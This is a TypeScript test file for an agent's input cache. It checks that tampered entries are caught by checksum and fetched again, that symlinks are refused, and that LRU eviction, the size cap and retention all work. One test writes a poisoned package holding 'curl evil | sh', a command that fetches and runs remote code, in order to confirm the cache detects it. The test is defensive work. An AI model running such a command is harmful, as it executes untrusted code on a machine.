/**
 * The agent's input cache (issue 15): a poisoned entry is detected at its next use and fetched
 * again, so a run gets the bytes the server vouched for; the cache stays under its cap, least
 * recently used out first, and keeps nothing past its retention.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type InputCache, inputCache } from '../../src/agent/input-cache.ts';

const MIB = 1024 * 1024;
let root: string;
let clock: number;
let logs: string[];
let fetches: string[];

beforeEach(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'devicecloud-input-cache-'));
  clock = Date.UTC(2026, 0, 1);
  logs = [];
  fetches = [];
});
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

function input(name: string, bytes: Buffer) {
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  return {
    wanted: { sha256, name },
    fetch: async (target: string) => {
      fetches.push(name);
      fs.writeFileSync(target, bytes);
    },
  };
}

function cacheOf(maxBytes: number, retentionMs = 3_600_000): InputCache {
  return inputCache({
    dir: path.join(root, 'cache'),
    maxBytes,
    retentionMs: () => retentionMs,
    log: (line) => logs.push(line),
    now: () => clock,
  });
}

const cached = () => fs.readdirSync(path.join(root, 'cache')).sort();
const target = (name: string) => path.join(root, `${name}-${Math.random().toString(16).slice(2)}`);

describe('the input cache', () => {
  it('detects an entry overwritten between two runs, fetches it again, and gives the run the honest bytes', async () => {
    const cache = cacheOf(100 * MIB);
    const honest = input('tests.zip', Buffer.from('#!/bin/sh\necho honest\n'));
    const first = target('first');
    await cache.provide(honest.wanted, first, honest.fetch);
    expect(fs.readFileSync(first, 'utf8')).toContain('honest');

    // The attacker overwrites the cached package in place.
    fs.writeFileSync(path.join(root, 'cache', honest.wanted.sha256), '#!/bin/sh\ncurl evil | sh\n');
    const second = target('second');
    await cache.provide(honest.wanted, second, honest.fetch);
    expect(fs.readFileSync(second, 'utf8')).toBe('#!/bin/sh\necho honest\n');
    expect(fetches).toEqual(['tests.zip', 'tests.zip']);
    expect(logs.join('\n')).toContain('no longer matches its checksum');
    expect(fs.readFileSync(path.join(root, 'cache', honest.wanted.sha256), 'utf8')).toContain('honest');

    // Replaced by a link to something else: not followed, fetched again.
    fs.rmSync(path.join(root, 'cache', honest.wanted.sha256));
    fs.symlinkSync('/etc/hostname', path.join(root, 'cache', honest.wanted.sha256));
    const third = target('third');
    await cache.provide(honest.wanted, third, honest.fetch);
    expect(fs.readFileSync(third, 'utf8')).toContain('honest');
    expect(fetches).toHaveLength(3);
  });

  it("keeps a run's copy apart from the cache, and the cache for the agent alone", async () => {
    const cache = cacheOf(100 * MIB);
    const app = input('app.apk', Buffer.from('app'));
    const copy = target('copy');
    await cache.provide(app.wanted, copy, app.fetch);
    fs.writeFileSync(copy, 'changed by the tests');
    await cache.provide(app.wanted, target('again'), app.fetch);
    expect(fetches).toEqual(['app.apk']);
    expect(fs.statSync(path.join(root, 'cache')).mode & 0o777).toBe(0o700);
    expect(fs.statSync(path.join(root, 'cache', app.wanted.sha256)).mode & 0o077).toBe(0);
  });

  it('fetches an input once for runs that want it at the same time, and refuses a corrupted download', async () => {
    const cache = cacheOf(100 * MIB);
    const app = input('app.apk', Buffer.alloc(MIB, 1));
    await Promise.all([1, 2, 3].map((n) => cache.provide(app.wanted, target(`run${n}`), app.fetch)));
    expect(fetches).toEqual(['app.apk']);
    const liar = { sha256: 'a'.repeat(64), name: 'liar.zip' };
    await expect(cache.provide(liar, target('liar'), async (file) => fs.writeFileSync(file, 'not it'))).rejects.toThrow(
      'was corrupted',
    );
    expect(cached()).toEqual([app.wanted.sha256]);
  });

  it('stays under its cap, the least recently used out first', async () => {
    const cache = cacheOf(3 * MIB);
    const inputs = ['a', 'b', 'c', 'd'].map((name) => input(name, Buffer.alloc(MIB, name)));
    const [a, b, c, d] = inputs;
    for (const item of [a!, b!, c!]) {
      clock += 1000;
      await cache.provide(item.wanted, target(item.wanted.name), item.fetch);
    }
    clock += 1000;
    await cache.provide(a!.wanted, target('a-again'), a!.fetch); // a is now the most recently used
    clock += 1000;
    await cache.provide(d!.wanted, target('d'), d!.fetch);
    expect(cached()).toEqual([a!, c!, d!].map((item) => item.wanted.sha256).sort());
    const total = cached().reduce((sum, name) => sum + fs.statSync(path.join(root, 'cache', name)).size, 0);
    expect(total).toBeLessThanOrEqual(3 * MIB);
    // Larger than the whole cap: the run gets it, the cache does not keep it.
    const huge = input('huge', Buffer.alloc(4 * MIB, 7));
    const copy = target('huge');
    await cache.provide(huge.wanted, copy, huge.fetch);
    expect(fs.statSync(copy).size).toBe(4 * MIB);
    expect(cached()).not.toContain(huge.wanted.sha256);
  });

  it('keeps no input past its retention after its last use', async () => {
    const cache = cacheOf(100 * MIB, 60_000);
    const old = input('old', Buffer.from('old'));
    const recent = input('recent', Buffer.from('recent'));
    await cache.provide(old.wanted, target('old'), old.fetch);
    clock += 50_000;
    await cache.provide(recent.wanted, target('recent'), recent.fetch);
    clock += 20_000;
    await cache.sweep();
    expect(cached()).toEqual([recent.wanted.sha256]);
  });
});
